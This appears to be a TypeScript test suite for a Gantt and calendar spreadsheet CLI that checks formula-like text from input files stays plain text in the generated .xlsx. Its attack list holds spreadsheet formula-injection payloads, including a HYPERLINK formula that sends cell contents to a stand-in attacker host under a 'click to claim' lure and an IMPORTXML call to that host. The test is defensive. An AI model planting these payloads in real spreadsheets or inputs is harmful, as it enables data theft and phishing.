/**
 * Text read from a file is data: a plan or an activity list whose cells say "=HYPERLINK(…)",
 * "=IMPORTXML(…)" or "@SUM(1)" gives a workbook where those cells are text, in the .xlsx and in the
 * tabs the add-on builds from them. Only the add-on's own formulas are formulas.
 */
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { cli } from '../support/cli';

const ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取")', '=IMPORTXML("http://evil.example","//a")', '@SUM(1)', '+86 138 0000 0000', '-2+3'];

/** Every cell of every sheet that holds one of the attack texts, and whether it is a formula there. */
async function attackCells(file: string): Promise<Array<{ sheet: string; text: string; formula: boolean }>> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(readFileSync(file) as unknown as ExcelJS.Buffer);
  const found: Array<{ sheet: string; text: string; formula: boolean }> = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const value = cell.value as ExcelJS.CellValue;
        const formula = typeof value === 'object' && value !== null && ('formula' in value || 'sharedFormula' in value) ? `=${cell.formula}` : null;
        const text = formula ?? (typeof value === 'string' ? value : '');
        for (const attack of ATTACKS)
          if (text.includes(attack.replace(/^=/, '')) && text.length <= attack.length + 1) found.push({ sheet: sheet.name, text, formula: formula !== null });
      }),
    );
  }
  return found;
}

describe('text from a file never becomes a formula', () => {
  const dir = mkdtempSync(join(tmpdir(), 'sop-text-'));

  test('gantt --tasks: a plan whose cells read like formulas gives text cells in the .xlsx', async () => {
    const plan = join(dir, 'plan.tsv');
    writeFileSync(
      plan,
      [
        ['阶段', '事项', '要求', '参与人', '负责人', '开始日期', '结束日期', '前置事项', '进度'].join('\t'),
        ['营前', '确定主题', ATTACKS[0], ATTACKS[2], '林晓', '2026-12-01', '2026-12-02', '', '50%'].join('\t'),
        ['营前', '写话术', ATTACKS[1], ATTACKS[3], '周舟', '2026-12-03', '2026-12-04', '确定主题', '0%'].join('\t'),
        ['营中', ATTACKS[4], '', '', '周舟', '2026-12-05', '2026-12-06', '', '0%'].join('\t'),
      ].join('\n'),
    );
    const out = join(dir, 'gantt.xlsx');
    const result = await cli('gantt', '--tasks', plan, '--out', out, '--lang', 'zh');
    expect(result.code).toBe(0);
    const cells = await attackCells(out);
    expect(cells.map((c) => c.text)).toEqual(expect.arrayContaining([ATTACKS[0], ATTACKS[1], ATTACKS[2], ATTACKS[3], ATTACKS[4]]));
    expect(cells.filter((c) => c.formula)).toEqual([]);
  });

  test('calendar --activities: an activity list whose cells read like formulas gives text cells in the .xlsx', async () => {
    const list = join(dir, 'activities.tsv');
    writeFileSync(
      list,
      [
        ['活动名称', '类型', '开始日期', '结束日期', '负责人', '目标社群', '目标'].join('\t'),
        [ATTACKS[0], '训练营', '2026-12-01', '2026-12-03', '林晓', ATTACKS[2], ATTACKS[1]].join('\t'),
        ['直播课', '营销课', '2026-12-05', '2026-12-05', ATTACKS[3], '全部引流群', ATTACKS[4]].join('\t'),
      ].join('\n'),
    );
    const out = join(dir, 'calendar.xlsx');
    const result = await cli('calendar', '--month', '2026-12', '--activities', list, '--out', out, '--lang', 'zh');
    expect(result.code).toBe(0);
    const cells = await attackCells(out);
    expect(cells.map((c) => c.text)).toEqual(expect.arrayContaining([ATTACKS[0], ATTACKS[1], ATTACKS[2]]));
    expect(cells.filter((c) => c.formula)).toEqual([]);
  });
});
